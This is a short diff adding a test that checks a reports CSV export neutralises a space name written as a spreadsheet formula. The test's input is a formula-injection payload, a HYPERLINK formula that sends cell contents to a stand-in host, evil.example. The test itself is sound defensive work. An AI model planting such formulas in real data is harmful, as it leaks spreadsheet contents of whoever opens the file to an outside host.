@@ -717,6 +717,16 @@ def test_revenue_per_day_downloads_as_csv(boss, january):
     ]
 
 
+def test_a_space_named_like_a_formula_reaches_the_reports_csv_as_text(boss, january):
+    SpaceFactory(slug="trap", name='=HYPERLINK("https://evil.example/?"&A1,"Open")')
+
+    response = boss.get("/reports/csv/", {"start": "2030-01-07", "end": "2030-01-13"})
+
+    spaces = [row["space"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Open")' in spaces
+    assert not any(space.startswith("=") for space in spaces)
+
+
 @pytest.mark.parametrize(
     ("query", "message"),
     [
